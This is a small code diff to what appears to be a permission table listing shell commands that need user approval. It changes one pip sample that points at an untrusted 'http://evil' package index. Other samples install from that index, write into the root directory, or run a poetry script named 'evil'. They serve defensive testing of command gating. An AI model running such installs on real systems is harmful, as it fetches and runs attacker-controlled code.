@@ -718,7 +718,7 @@ ASKED: Final[Mapping[str, tuple[str, ...]]] = {
     "poetry:*": ("poetry run evil", "poetry -C x install", "poetry config a b"),
     "pip install:*": (
         "pip install -r evil.txt",
-        "pip install --index-url http://evil x",
+        "pip install --index http://evil x",
         "pip install -i http://evil x",
         "pip install -e .",
         "pip install -t / x",
